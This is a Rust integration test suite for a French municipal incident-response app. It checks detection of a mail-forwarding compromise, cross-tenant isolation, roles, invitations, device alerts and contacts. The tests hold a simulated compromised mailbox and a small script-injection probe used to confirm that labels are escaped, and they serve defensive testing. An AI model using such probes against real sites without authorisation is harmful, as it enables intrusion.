/// Reloads the mailbox page until its check is over (the background worker runs it).
async fn wait_for_check(b: &mut Browser, path: &str) -> Page {
    for _ in 0..120 {
        let page = b.get(path).await;
        assert_eq!(page.status, 200, "{}", page.body);
        if !page.body.contains("Contrôle en cours") {
            return page;
        }
        assert!(
            page.body.contains("http-equiv=\"refresh\""),
            "a running check reloads the page"
        );
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    panic!("the check did not finish within 30 s");
}

async fn mailbox_checks(env: &Env) {
    let dovecot = compromised_dovecot().await;
    let flags_before = dovecot
        .message_flags_snapshot(dovecot.user())
        .unwrap_or_else(|e| panic!("{e}"));
    let (mut b, _secret, _codes) = set_up(env).await;
    let dashboard = b.get("/").await;
    assert!(dashboard.shows("Aucune boîte aux lettres n'est encore suivie"));

    // Bad input: a message per field, nothing saved, the password not sent back.
    let form = b.get("/messagerie/ajouter").await;
    let csrf = form.field("csrf");
    let bad = b
        .post(
            "/messagerie/ajouter",
            &[
                ("csrf", &csrf),
                ("libelle", ""),
                ("identifiant", dovecot.user()),
                ("mot_de_passe", "Secret-A-Ne-Pas-Renvoyer"),
                ("serveur", ""),
                ("port", "quatre-vingt"),
                ("securite", "tls"),
                ("autorite_pem", "pas un certificat"),
                ("conservation_annees", "0"),
            ],
        )
        .await;
    assert_field_errors(
        &bad,
        &[
            "Donnez un nom à cette boîte",
            "Indiquez le serveur IMAP",
            "Le port est un nombre",
            "Collez un certificat au format PEM",
            "La durée de conservation est un nombre",
        ],
    );
    assert!(!bad.body.contains("Secret-A-Ne-Pas-Renvoyer"));
    let org = first_org_of(env, "secretariat@mairie-saint-exemple.fr").await;
    assert!(
        env.store
            .mailboxes(&org)
            .await
            .unwrap_or_default()
            .is_empty()
    );

    let path = add_mailbox(&mut b, &dovecot).await;
    let page = wait_for_check(&mut b, &path).await;
    assert!(!page.body.contains("<script>x</script>"), "label escaped");
    assert!(page.shows(MAILBOX_LABEL));
    assert!(page.body.contains("sieve.redirect"), "{}", page.body);
    assert!(page.shows(EXFILTRATION), "the target address is named");
    assert!(page.body.contains("Pourquoi :") && page.body.contains("Que faire :"));
    assert!(page.body.contains("exposure.summary"), "the scan ran");
    assert!(!page.body.contains(dovecot.password()));
    // The value found in mail is masked, never shown whole.
    assert!(!page.body.contains("FR7630006000011234567890189"));

    // The HTML report, sandboxed.
    let report_path = format!(
        "{path}/controles/{}/rapport",
        page.between(&format!("href=\"{path}/controles/"), "/rapport\"")
    );
    let report = b.get(&report_path).await;
    assert_eq!(report.status, 200, "{}", report.body);
    assert!(report.header("content-type").starts_with("text/html"));
    assert_eq!(
        report.header("content-security-policy"),
        vigie_server::security::REPORT_CSP
    );
    assert!(
        report.body.contains("<html"),
        "{}",
        &report.body[..200.min(report.body.len())]
    );
    assert!(!report.body.contains("FR7630006000011234567890189"));

    // Dashboard: open findings and the last check.
    let dashboard = b.get("/").await;
    assert!(dashboard.shows("1 boîte suivie"), "{}", dashboard.body);
    assert!(dashboard.shows("Constats ouverts"));

    // API: the list, a new check as a job, its progress.
    // The session's anti-forgery token, as the pages carry it, also signs API calls.
    let token = b.get("/compte").await.field("csrf");
    let list = b.get("/api/messagerie").await;
    assert_eq!(list.status, 200);
    let json: serde_json::Value = serde_json::from_str(&list.body).unwrap_or_default();
    let mailbox = &json["boites"][0];
    let id = mailbox["id"].as_str().unwrap_or_default().to_string();
    assert_eq!(path, format!("/messagerie/{id}"));
    let findings = mailbox["dernier_controle"]["rapport"]["findings"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        findings.iter().any(|f| f["id"] == "sieve.redirect"),
        "{}",
        list.body
    );
    assert!(!list.body.contains(dovecot.password()));
    let queued = b
        .post_json(
            &format!("/api/messagerie/{id}/controles"),
            Some(&token),
            serde_json::json!({}),
        )
        .await;
    assert_eq!(queued.status, 202, "{}", queued.body);
    let job: serde_json::Value = serde_json::from_str(&queued.body).unwrap_or_default();
    let job_id = job["id"].as_str().unwrap_or_default().to_string();
    let mut state = String::new();
    for _ in 0..120 {
        let seen = b.get(&format!("/api/taches/{job_id}")).await;
        assert_eq!(seen.status, 200, "{}", seen.body);
        let v: serde_json::Value = serde_json::from_str(&seen.body).unwrap_or_default();
        state = v["etat"].as_str().unwrap_or_default().to_string();
        if state == "done" || state == "failed" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(250)).await;
    }
    assert_eq!(state, "done");
    let bad_api = b
        .post_json(
            "/api/messagerie",
            Some(&token),
            serde_json::json!({"libelle": "x", "identifiant": "", "serveur": "", "mot_de_passe": ""}),
        )
        .await;
    assert_eq!(bad_api.status, 422, "{}", bad_api.body);
    assert!(bad_api.body.contains("\"identifiant\""), "{}", bad_api.body);

    // At rest: the password is sealed (the database alone does not give it), bound to the
    // mailbox.
    let record = env
        .store
        .mailbox(&org, &id)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(!record.secret_sealed.contains(dovecot.password()));
    let key = server_key(env);
    assert_eq!(
        key.open(&format!("mailbox:{id}"), &record.secret_sealed)
            .unwrap_or_default(),
        dovecot.password().as_bytes()
    );
    assert!(key.open("mailbox:autre", &record.secret_sealed).is_err());
    for file in ["vigie.db", "vigie.db-wal"] {
        if let Ok(bytes) = std::fs::read(env._dir.path().join(file)) {
            let needle = dovecot.password().as_bytes();
            assert!(
                !bytes.windows(needle.len()).any(|w| w == needle),
                "password in clear in {file}"
            );
        }
    }

    // Read-only: flags and counts unchanged after two checks.
    let flags_after = dovecot
        .message_flags_snapshot(dovecot.user())
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(flags_before, flags_after);

    // Another organisation sees and changes nothing of it.
    let (mut intruder, token) = other_org_admin(env).await;
    for path in [
        path.clone(),
        report_path.clone(),
        format!("/api/messagerie/{id}"),
        format!("/api/taches/{job_id}"),
    ] {
        let page = intruder.get(&path).await;
        assert_eq!(page.status, 404, "{path}: {}", page.body);
        assert!(!page.shows(MAILBOX_LABEL), "{path}");
    }
    let list = intruder.get("/api/messagerie").await;
    assert!(!list.body.contains(&id));
    let run = intruder
        .post_json(
            &format!("/api/messagerie/{id}/controles"),
            Some(&token),
            serde_json::json!({}),
        )
        .await;
    assert_eq!(run.status, 404);

    // Deleting: the mailbox and its results go.
    let page = b.get(&path).await;
    let csrf = page.field("csrf");
    let deleted = b
        .post(&format!("{path}/supprimer"), &[("csrf", &csrf)])
        .await;
    assert_eq!(deleted.status, 303, "{}", deleted.body);
    assert_eq!(b.get(&path).await.status, 404);
    assert!(
        env.store
            .mailboxes(&org)
            .await
            .unwrap_or_default()
            .is_empty()
    );
}

/// Every route of `ROUTES` that is not public, called by another organisation's administrator
/// with the ids of the first organisation's objects: nothing is read (404, no trace of it in
/// the body) and nothing changes.
async fn every_route_is_tenant_scoped(env: &Env) {
    let dovecot = compromised_dovecot().await;
    let (mut b, _secret, _codes) = set_up(env).await;
    let mailbox_path = add_mailbox(&mut b, &dovecot).await;
    let page = wait_for_check(&mut b, &mailbox_path).await;
    let mailbox_id = mailbox_path.trim_start_matches("/messagerie/").to_string();
    let check_id = page.between(&format!("href=\"{mailbox_path}/controles/"), "/rapport\"");
    // The session's anti-forgery token, as the pages carry it, also signs API calls.
    let token = b.get("/compte").await.field("csrf");
    let declared = b
        .post_json(
            "/api/incidents",
            Some(&token),
            serde_json::json!({"playbook": "compromission-messagerie", "titre": "Messages disparus de la mairie", "constate_le": "2026-11-28T09:15:00+01:00"}),
        )
        .await;
    assert_eq!(declared.status, 201, "{}", declared.body);
    let incident: serde_json::Value = serde_json::from_str(&declared.body).unwrap_or_default();
    let incident_id = incident["id"].as_str().unwrap_or_default().to_string();
    let jobs = b.get(&format!("/api/messagerie/{mailbox_id}")).await;
    assert_eq!(jobs.status, 200);
    let org = first_org_of(env, "secretariat@mairie-saint-exemple.fr").await;
    let job_id = env
        .store
        .jobs(&org, Some(&mailbox_id), 1)
        .await
        .unwrap_or_else(|e| panic!("{e}"))[0]
        .id
        .clone();
    // A passkey of the administrator (public material only), for « Mon compte ».
    let admin_user = env
        .store
        .user_by_email("secretariat@mairie-saint-exemple.fr")
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("admin"));
    let passkey_id = "00000000-0000-4000-8000-00000000c1e5".to_string();
    env.store
        .add_passkey(&vigie_store::PasskeyRecord {
            id: passkey_id.clone(),
            user_id: admin_user.id.clone(),
            credential_id: "Y2zDqQ".into(),
            name: "Clé de Claire".into(),
            passkey_json: "{}".into(),
            created_at: chrono::Utc::now(),
            last_used_at: None,
        })
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    // A contact of the organisation, for the « Contacts » routes.
    let contacts = add_insurer(&mut b).await;
    let contact_id = contacts.between("action=\"/contacts/", "/verifie\"");
    // A pending invitation and the administrator's own id, for the « Membres » routes.
    let link = invite(
        &mut b,
        "Marc Invité",
        "marc@mairie-saint-exemple.fr",
        "agent",
    )
    .await;
    let members = b.get("/membres").await;
    let invitation_id = members.between("action=\"/membres/invitations/", "/annuler\"");
    let admin_id = members.between("action=\"/membres/", "/role\"");
    let before = snapshot(env, &org, &incident_id).await;

    let (mut intruder, token) = other_org_admin(env).await;
    let markers = [
        "Saint-Exemple",
        "Claire Martin",
        "Messages disparus de la mairie",
        "Marc Invité",
        "POL-2026-4711",
        "Clé de Claire",
        EXFILTRATION,
    ];
    // Signing out everywhere last: it ends the intruder's own session.
    let mut routes: Vec<_> = ROUTES
        .iter()
        .filter(|(_, _, access)| *access != Access::Public)
        .collect();
    routes.sort_by_key(|(_, path, _)| path.contains("deconnexion"));
    // Every id of the first organisation's objects, in the order `fill` takes them.
    let all_ids = [
        mailbox_id.clone(),
        check_id.clone(),
        job_id.clone(),
        incident_id.clone(),
        admin_id.clone(),
        invitation_id.clone(),
        contact_id.clone(),
        passkey_id.clone(),
    ];
    let mut checked = 0;
    const MISSING: &str = "00000000-0000-4000-8000-000000000000";
    for (method, pattern, _) in routes {
        // [mailbox, check, job, incident, member, invitation, contact, passkey]
        let fill = |ids: [&str; 8]| {
            let [
                mailbox,
                check,
                job,
                incident,
                member,
                invitation,
                contact,
                passkey,
            ] = ids;
            if pattern.starts_with("/compte/cles/") {
                pattern.replace("{id}", passkey)
            } else if pattern.starts_with("/contacts/") {
                pattern.replace("{id}", contact)
            } else if pattern.starts_with("/membres/invitations/") {
                pattern.replace("{id}", invitation)
            } else if pattern.starts_with("/membres/") {
                pattern.replace("{id}", member)
            } else if pattern.starts_with("/api/taches/") {
                pattern.replace("{id}", job)
            } else if pattern.contains("/messagerie/") {
                pattern.replace("{id}", mailbox).replace("{check}", check)
            } else {
                pattern
                    .replace("{id}", incident)
                    .replace("{step}", "isoler")
                    .replace("{kind}", "cnil")
            }
        };
        let path = fill(all_ids.each_ref().map(String::as_str));
        let page = call(&mut intruder, method, &path, &token).await;
        if pattern.contains('{') {
            assert_eq!(page.status, 404, "{method} {path}: {}", page.body);
            // No oracle: the answer is the one for an id that exists nowhere.
            let missing_path = fill([MISSING; 8]);
            let missing = call(&mut intruder, method, &missing_path, &token).await;
            let anonymise = |body: &str| {
                all_ids
                    .iter()
                    .fold(body.to_owned(), |b, id| b.replace(id.as_str(), MISSING))
            };
            assert_eq!(
                anonymise(&page.body),
                missing.body,
                "{method} {path} answers differently for an existing id"
            );
        } else {
            assert!(
                page.status < 500,
                "{method} {path}: {} {}",
                page.status,
                page.body
            );
            for id in &all_ids {
                assert!(
                    !page.body.contains(id.as_str()),
                    "{method} {path} shows {id}"
                );
            }
        }
        for marker in markers {
            assert!(
                !page.body.contains(marker),
                "{method} {path} shows « {marker} »:\n{}",
                page.body
            );
        }
        checked += 1;
    }
    assert!(checked >= 30, "only {checked} routes checked");
    assert_eq!(
        snapshot(env, &org, &incident_id).await,
        before,
        "nothing changed"
    );
    let path = link.trim_start_matches(&env.base).to_string();
    assert_eq!(
        Browser::new(env).get(&path).await.status,
        200,
        "the invitation still stands"
    );
}

/// Calls a route as a browser would: GET, a form with the page's token, or JSON with the
/// session's token for the API.
async fn call(b: &mut Browser, method: &str, path: &str, token: &str) -> Page {
    match (method, path.starts_with("/api/")) {
        ("GET", _) => b.get(path).await,
        (_, true) => b.post_json(path, Some(token), serde_json::json!({})).await,
        (_, false) => {
            let account = b.get("/compte").await;
            let csrf = if account.status == 200 {
                account.field("csrf")
            } else {
                String::new()
            };
            if path.ends_with("/preuves") {
                // An upload: multipart, the token in the query string.
                let part = reqwest::multipart::Part::bytes(b"intrus".to_vec()).file_name("x.txt");
                let form = reqwest::multipart::Form::new().part("fichiers", part);
                let url = format!("{}{path}?csrf={}", b.base, csrf.replace('+', "%2B"));
                let request = b.http.post(url).multipart(form);
                return b.send(request).await;
            }
            b.post(path, &[("csrf", &csrf), ("note", "intrus")]).await
        }
    }
}

/// What the first organisation has, to compare before and after the intruder.
async fn snapshot(env: &Env, org: &vigie_store::OrgId, incident_id: &str) -> String {
    let store = &env.store;
    let incident = store
        .incident(org, incident_id)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let journal = store
        .journal(org, &incident.id)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let mailboxes = store.mailboxes(org).await.unwrap_or_else(|e| panic!("{e}"));
    let jobs = store
        .jobs(org, None, 100)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let members = store.members(org).await.unwrap_or_else(|e| panic!("{e}"));
    let mut passkeys = Vec::new();
    for (_, user) in &members {
        let keys = store
            .passkeys(&user.id)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        passkeys.extend(keys.into_iter().map(|p| p.id));
    }
    let contacts = store
        .list_contacts(org)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    format!(
        "{incident:?}\n{}\n{:?}\n{:?}\n{:?}\n{passkeys:?}\n{contacts:?}",
        journal.len(),
        mailboxes.iter().map(|m| &m.id).collect::<Vec<_>>(),
        jobs.iter().map(|j| (&j.id, j.status)).collect::<Vec<_>>(),
        members
            .iter()
            .map(|(m, u)| (&u.id, m.role))
            .collect::<Vec<_>>(),
    )
}

// ---------------------------------------------------------------------------------------------
// Members: invitations, roles, removal, the provider's logged accesses.

/// Invites someone from the admin's « Membres » page; returns the link shown once.
async fn invite(admin: &mut Browser, name: &str, email: &str, role: &str) -> String {
    let csrf = admin.get("/membres").await.field("csrf");
    let page = admin
        .post(
            "/membres/inviter",
            &[
                ("csrf", &csrf),
                ("nom", name),
                ("email", email),
                ("role", role),
            ],
        )
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    page.between("data-testid=\"lien-invitation\">", "</code>")
        .replace("&#38;", "&")
        .replace("&amp;", "&")
}

/// Opens an invitation link in a new browser, creates the account and enrols.
async fn accept(env: &Env, link: &str, name: &str, password: &str) -> Browser {
    let mut b = Browser::new(env);
    let path = link.trim_start_matches(&env.base).to_string();
    let form = b.get(&path).await;
    assert_eq!(form.status, 200, "{}", form.body);
    let csrf = form.field("csrf");
    let jeton = form.field("jeton");
    let done = b
        .post(
            "/invitation",
            &[
                ("csrf", &csrf),
                ("jeton", &jeton),
                ("nom", name),
                ("mot_de_passe", password),
                ("confirmation", password),
            ],
        )
        .await;
    assert_eq!(done.status, 303, "{}", done.body);
    assert_eq!(done.location(), "/connexion/double-facteur");
    enrol(&mut b).await;
    assert_eq!(b.get("/").await.status, 200);
    b
}

async fn members_and_roles(env: &Env) {
    let (mut admin, _secret, _codes) = set_up(env).await;
    let page = admin.get("/membres").await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.shows("Claire Martin (vous)"));

    // Bad input: field messages, nothing created.
    let csrf = page.field("csrf");
    let bad = admin
        .post(
            "/membres/inviter",
            &[
                ("csrf", &csrf),
                ("nom", ""),
                ("email", "jeanne"),
                ("role", "roi"),
            ],
        )
        .await;
    assert_field_errors(
        &bad,
        &[
            "Indiquez les prénom et nom",
            "Cette adresse électronique n'est pas valide",
            "Choisissez un rôle",
        ],
    );
    let taken = admin
        .post(
            "/membres/inviter",
            &[
                ("csrf", &csrf),
                ("nom", "Claire"),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("role", "agent"),
            ],
        )
        .await;
    assert_eq!(taken.status, 422);
    assert!(
        taken.shows("Cette personne est déjà membre de l'organisation"),
        "{}",
        taken.body
    );

    // An agent joins through the link.
    let link = invite(
        &mut admin,
        "Jeanne <b>Agent</b>",
        "jeanne@mairie-saint-exemple.fr",
        "agent",
    )
    .await;
    assert!(
        link.starts_with(&format!("{}/invitation?jeton=", env.base)),
        "{link}"
    );
    let path = link.trim_start_matches(&env.base).to_string();
    let mut weak = Browser::new(env);
    let form = weak.get(&path).await;
    assert!(form.shows("Rejoindre Mairie de Saint-Exemple"));
    assert!(form.shows("Jeanne <b>Agent</b>"), "escaped name");
    let refused = weak
        .post(
            "/invitation",
            &[
                ("csrf", &form.field("csrf")),
                ("jeton", &form.field("jeton")),
                ("nom", "Jeanne"),
                ("mot_de_passe", "mairie2026"),
                ("confirmation", "mairie2026"),
            ],
        )
        .await;
    assert_eq!(refused.status, 422);
    assert!(refused.shows("trop faible"), "{}", refused.body);
    let mut agent = accept(
        env,
        &link,
        "Jeanne <b>Agent</b>",
        "cerise-volcan-tapis-samedi",
    )
    .await;
    let reused = Browser::new(env).get(&path).await;
    assert_eq!(reused.status, 404, "a link works once");
    assert!(reused.shows("n'est plus valable"));

    // The agent works, but neither manages members nor reads the security journal.
    assert_eq!(agent.get("/membres").await.status, 403);
    assert_eq!(agent.get("/journal-securite").await.status, 403);
    let csrf = agent.get("/incidents/nouveau").await.field("csrf");
    let incident = [
        ("csrf", csrf.as_str()),
        ("playbook", "faux-support"),
        ("titre", "Fenêtre d'alerte"),
        ("constate_le", "2026-11-02T10:00"),
    ];
    assert_eq!(
        agent.post("/incidents/nouveau", &incident).await.status,
        303
    );

    // Made « élu »: read-only.
    let page = admin.get("/membres").await;
    let jeanne = env
        .store
        .user_by_email("jeanne@mairie-saint-exemple.fr")
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("jeanne"));
    let csrf = page.field("csrf");
    let changed = admin
        .post(
            &format!("/membres/{}/role", jeanne.id),
            &[("csrf", &csrf), ("role", "elu")],
        )
        .await;
    assert_eq!(changed.status, 303, "{}", changed.body);
    assert_eq!(
        agent.post("/incidents/nouveau", &incident).await.status,
        403
    );
    assert_eq!(agent.get("/incidents").await.status, 200, "élus read");

    // The last administrator cannot step down.
    let admin_user = env
        .store
        .user_by_email("secretariat@mairie-saint-exemple.fr")
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("admin"));
    let step_down = admin
        .post(
            &format!("/membres/{}/role", admin_user.id),
            &[("csrf", &csrf), ("role", "agent")],
        )
        .await;
    assert_eq!(step_down.status, 400, "{}", step_down.body);
    assert!(step_down.shows("dernier administrateur"));

    // The provider's staff: every visit is in the commune's journal.
    let link = invite(
        &mut admin,
        "Paul Prestataire",
        "paul@infogerance.example",
        "prestataire",
    )
    .await;
    let mut provider = accept(
        env,
        &link,
        "Paul Prestataire",
        "marteau-nuage-bouclier-lundi",
    )
    .await;
    assert_eq!(provider.get("/incidents").await.status, 200);
    let journal = admin.get("/journal-securite").await;
    assert!(
        journal.shows("Accès du prestataire : GET /incidents"),
        "{}",
        journal.body
    );
    assert!(journal.shows("a rejoint l'organisation comme Prestataire informatique"));
    assert!(journal.shows("invité(e) comme Agent"));
    assert!(journal.shows("Rôle de Jeanne <b>Agent</b> : Élu"));

    // Removing ends the member's sessions; a cancelled invitation's link is dead.
    let removed = admin
        .post(
            &format!("/membres/{}/retirer", jeanne.id),
            &[("csrf", &csrf)],
        )
        .await;
    assert_eq!(removed.status, 303, "{}", removed.body);
    assert_eq!(agent.get("/").await.location(), "/connexion");
    assert!(!admin.get("/membres").await.body.contains("jeanne@"));
    let link = invite(&mut admin, "Marc", "marc@mairie-saint-exemple.fr", "agent").await;
    let page = admin.get("/membres").await;
    let invitation_id = page.between("action=\"/membres/invitations/", "/annuler\"");
    let cancelled = admin
        .post(
            &format!("/membres/invitations/{invitation_id}/annuler"),
            &[("csrf", &page.field("csrf"))],
        )
        .await;
    assert_eq!(cancelled.status, 303, "{}", cancelled.body);
    let path = link.trim_start_matches(&env.base).to_string();
    assert_eq!(Browser::new(env).get(&path).await.status, 404);
}

// ---------------------------------------------------------------------------------------------
// A sign-in from a new device: a line in the journal and an e-mail (to a local SMTP sink).

async fn new_device_email(env: &Env) {
    let (mut b, secret, codes) = set_up(env).await;
    assert!(
        b.cookies.contains_key("vigie_appareil"),
        "the first browser is known"
    );
    // The same browser again: no e-mail.
    let csrf = b.get("/").await.field("csrf");
    b.post("/deconnexion", &[("csrf", &csrf)]).await;
    let signin = b.get("/connexion").await;
    let pw = b
        .post(
            "/connexion",
            &[
                ("csrf", &signin.field("csrf")),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("mot_de_passe", PASSWORD),
            ],
        )
        .await;
    assert_eq!(pw.location(), "/connexion/code");
    let csrf = b.get("/connexion/code").await.field("csrf");
    let ok = b
        .post(
            "/connexion/code",
            &[("csrf", &csrf), ("code", &oathtool(&secret, now() + 30))],
        )
        .await;
    assert_eq!(ok.location(), "/", "{}", ok.body);

    // Another browser: the user is told, by e-mail.
    let mut other = Browser::new(env);
    let signin = |code: &str| serde_json::json!({"email": "secretariat@mairie-saint-exemple.fr", "mot_de_passe": PASSWORD, "code": code});
    let session = other
        .post_json("/api/session", None, signin(&codes[0]))
        .await;
    assert_eq!(session.status, 200, "{}", session.body);
    let mails =
        tokio::task::block_in_place(|| env.smtp.wait_for(1, std::time::Duration::from_secs(15)));
    assert_eq!(mails.len(), 1, "one e-mail: {mails:?}");
    let mail = &mails[0];
    assert_eq!(
        mail.to,
        vec!["secretariat@mairie-saint-exemple.fr".to_string()]
    );
    let parsed = mail_parser::MessageParser::default()
        .parse(mail.data.as_bytes())
        .unwrap_or_else(|| panic!("unreadable e-mail:\n{}", mail.data));
    assert_eq!(
        parsed.subject(),
        Some("Vigie : connexion depuis un nouvel appareil")
    );
    let text = parsed.body_text(0).unwrap_or_default().to_string();
    assert!(text.contains("Bonjour Claire Martin"), "{text}");
    assert!(
        text.contains("« Se déconnecter de tous les appareils »"),
        "{text}"
    );
    assert!(text.contains("127.0.0.1"), "{text}");
    for secret_text in [PASSWORD, secret.as_str(), codes[0].as_str()] {
        assert!(!mail.data.contains(secret_text), "a secret in the e-mail");
    }
    let journal = b.get("/journal-securite").await;
    assert!(
        journal.shows("Connexion depuis un nouvel appareil"),
        "{}",
        journal.body
    );

    // That browser is known now: no second e-mail.
    assert!(other.cookies.contains_key("vigie_appareil"));
    let again = other
        .post_json("/api/session", None, signin(&codes[1]))
        .await;
    assert_eq!(again.status, 200, "{}", again.body);
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(env.smtp.messages().len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Contacts vérifiés and the fiche réflexes.

/// Adds the insurer through the form; returns the contacts page after.
async fn add_insurer(b: &mut Browser) -> Page {
    let csrf = b.get("/contacts").await.field("csrf");
    let added = b
        .post(
            "/contacts",
            &[
                ("csrf", &csrf),
                ("role", "assureur"),
                ("nom", "Mutuelle des communes <i>test</i>"),
                ("telephone", "01 23 45 67 89"),
                ("courriel", "sinistres@mutuelle.example"),
                ("numero_contrat", "POL-2026-4711"),
            ],
        )
        .await;
    assert_eq!(added.status, 303, "{}", added.body);
    b.get("/contacts").await
}

async fn contacts_and_reflex_sheet(env: &Env) {
    let (mut b, _secret, _codes) = set_up(env).await;
    let page = b.get("/contacts").await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.shows("Aucun contact enregistré"));
    assert!(page.body.contains("17Cyber"), "national contacts listed");
    assert!(
        page.shows("Assureur de l'organisation"),
        "missing roles listed"
    );

    let csrf = page.field("csrf");
    let bad = b
        .post(
            "/contacts",
            &[
                ("csrf", &csrf),
                ("role", "pape"),
                ("nom", ""),
                ("telephone", ""),
            ],
        )
        .await;
    assert_field_errors(
        &bad,
        &[
            "Choisissez le rôle",
            "Indiquez le nom",
            "Indiquez au moins un numéro de téléphone",
        ],
    );
    let page = add_insurer(&mut b).await;
    assert!(
        page.shows("Mutuelle des communes <i>test</i>"),
        "escaped name"
    );
    assert!(!page.body.contains("<i>test</i>"));
    assert!(page.shows("POL-2026-4711"));
    let today = chrono::Utc::now()
        .with_timezone(&chrono_tz::Europe::Paris)
        .format("vérifié le %d/%m/%Y")
        .to_string();
    assert!(page.shows(&today), "{}", page.body);
    let id = page.between("action=\"/contacts/", "/verifie\"");
    let csrf = page.field("csrf");
    assert_eq!(
        b.post(&format!("/contacts/{id}/verifie"), &[("csrf", &csrf)])
            .await
            .status,
        303
    );

    // The fiche réflexes, with the organisation's own insurer on it.
    let pdf = b.get("/contacts/fiche-reflexes").await;
    assert_eq!(pdf.status, 200, "{}", pdf.body);
    assert_eq!(pdf.header("content-type"), "application/pdf");
    let url = format!("{}/contacts/fiche-reflexes", b.base);
    let bytes = b
        .http
        .get(url)
        .header("cookie", b.cookie_header())
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .bytes()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(bytes.starts_with(b"%PDF"));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let file = dir.path().join("fiche.pdf");
    std::fs::write(&file, &bytes).unwrap_or_else(|e| panic!("{e}"));
    let text = Command::new("pdftotext")
        .arg(&file)
        .arg("-")
        .output()
        .unwrap_or_else(|e| panic!("pdftotext (poppler-utils): {e}"));
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("POL-2026-4711") || text.contains("Mutuelle"),
        "{text}"
    );

    // The same through the API.
    let listed = b.get("/api/contacts").await;
    assert_eq!(listed.status, 200);
    assert!(listed.body.contains("POL-2026-4711") && listed.body.contains("17Cyber"));
    let refused = b
        .post_json(
            "/api/contacts",
            Some(&csrf),
            serde_json::json!({"role": "dpo", "nom": "DPO"}),
        )
        .await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert!(refused.body.contains("\"telephone\""), "{}", refused.body);
    let created = b
        .post_json(
            "/api/contacts",
            Some(&csrf),
            serde_json::json!({"role": "dpo", "nom": "Centre de gestion", "courriel": "dpo@cdg.example"}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.body);
    assert!(b.get("/contacts").await.shows("Centre de gestion"));
    let members = b.get("/api/membres").await;
    assert_eq!(members.status, 200, "{}", members.body);
    assert!(members.body.contains("\"administrateur\""));
    let orgs = b.get("/api/organisations").await;
    assert!(
        orgs.body.contains("Mairie de Saint-Exemple") && orgs.body.contains("\"courante\":true")
    );

    let removed = b
        .post(&format!("/contacts/{id}/supprimer"), &[("csrf", &csrf)])
        .await;
    assert_eq!(removed.status, 303);
    assert!(!b.get("/contacts").await.shows("Mutuelle des communes"));
}

// ---------------------------------------------------------------------------------------------
// One account in two organisations: the provider's technician.

/// An IT provider runs the server for the communes it looks after: set up as a provider, it
/// adds a commune with its administrator's invitation (bad input refused field by field,
/// nothing created); its staff work there as prestataire, each visit in the commune's
/// journal; the commune's administrator sees the provider and its staff on « Membres » and
/// ends the support, after which the provider's staff are refused at once.
async fn provider_supports_communes(env: &Env) {
    let (mut boss, _secret, _codes) = set_up_as(
        env,
        "Infogérance Bourgogne",
        "prestataire",
        "claire@infogerance-bourgogne.fr",
    )
    .await;
    let home = boss.get("/").await;
    assert!(
        home.body.contains("<a href=\"/organisations\"") && home.shows("Communes suivies"),
        "{}",
        home.body
    );
    let overview = boss.get("/organisations").await;
    assert_eq!(overview.status, 200, "{}", overview.body);
    assert!(overview.shows("Ajouter une commune que vous accompagnez"));
    let csrf = overview.field("csrf");
    let refused = boss
        .post(
            "/organisations/communes",
            &[
                ("csrf", csrf.as_str()),
                ("commune", " "),
                ("nom", "Anne Leroy"),
                ("email", "pas-une-adresse"),
            ],
        )
        .await;
    assert_field_errors(
        &refused,
        &[
            "Indiquez le nom de la commune (200 caractères au plus).",
            "Cette adresse électronique n'est pas valide (attendu : nom@domaine.fr).",
        ],
    );
    assert!(refused.body.contains("value=\"Anne Leroy\""), "kept");
    let organisations = |env: &Env| {
        let store = env.store.clone();
        async move {
            store
                .list_organisations()
                .await
                .unwrap_or_else(|e| panic!("{e}"))
        }
    };
    assert_eq!(organisations(env).await.len(), 1, "nothing created");

    let added = boss
        .post(
            "/organisations/communes",
            &[
                ("csrf", csrf.as_str()),
                ("commune", "Mairie de Semur"),
                ("nom", "Anne Leroy"),
                ("email", "Secretariat@Mairie-Semur.fr"),
            ],
        )
        .await;
    assert_eq!(added.status, 200, "{}", added.body);
    assert!(
        added.shows("Mairie de Semur est ajoutée ; invitation créée pour Anne Leroy."),
        "{}",
        added.body
    );
    assert!(added.shows("Prestataire informatique"), "its role there");
    let link = added
        .between("data-testid=\"lien-invitation\">", "</code>")
        .replace("&#38;", "&")
        .replace("&amp;", "&");
    let commune = organisations(env)
        .await
        .into_iter()
        .find(|o| o.name == "Mairie de Semur")
        .unwrap_or_else(|| panic!("the commune"));
    assert_eq!(commune.kind, vigie_store::OrgKind::Commune);
    let journal = boss.get("/journal-securite").await;
    assert!(
        journal.shows("Commune « Mairie de Semur » ajoutée ; Anne Leroy (secretariat@mairie-semur.fr) invité(e) comme administrateur"),
        "{}",
        journal.body
    );

    let api = boss.get("/api/communes").await;
    assert_eq!(api.status, 200, "{}", api.body);
    let api: serde_json::Value = serde_json::from_str(&api.body).unwrap_or_default();
    assert_eq!(api["schema"], "vigie.provider_communes.v1");
    assert_eq!(api["communes"][0]["nom"], "Mairie de Semur");
